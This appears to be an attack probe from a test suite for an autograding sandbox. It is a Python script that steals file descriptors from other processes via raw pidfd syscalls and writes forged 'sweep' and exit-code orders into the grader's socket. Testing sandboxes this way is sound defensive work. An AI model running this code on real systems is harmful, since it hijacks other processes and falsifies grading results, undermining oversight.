# intent: the warm process's socket to the grader is taken from it and orders are written into it
# family: siblings
# danger: yes
# stock: not run: stock nbgrader has no such process
# sibling: yes

# %%
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
for pid in {os.getppid(), 1, *(int(name) for name in os.listdir("/proc") if name.isdigit())} - {os.getpid(), 0}:
    process = libc.syscall(434, pid, 0)
    if process < 0:
        continue
    for number in range(3, 64):
        stolen = libc.syscall(438, process, number, 0)
        if stolen >= 0:
            print("the-attack" + "-worked", pid, number)
            try:
                os.write(stolen, b'{"do": "sweep"}\n{"code": 0}\n')
            except OSError:
                pass
            break
